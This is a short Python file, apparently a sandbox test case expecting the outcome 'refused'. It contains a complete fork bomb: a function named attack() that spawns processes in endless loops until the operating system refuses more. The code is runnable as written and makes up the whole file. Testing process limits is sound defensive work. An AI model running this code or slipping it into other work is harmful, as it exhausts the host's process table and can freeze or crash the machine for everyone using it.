"""Fork until the machine gives in.

ends: refused
"""

import os


def attack():
    made = 0
    try:
        while True:
            if os.fork() == 0:
                while True:
                    os.fork()
            made += 1
    except OSError as error:
        return f"refused after {made}: {error}" if made == 0 else f"reached {made} processes"
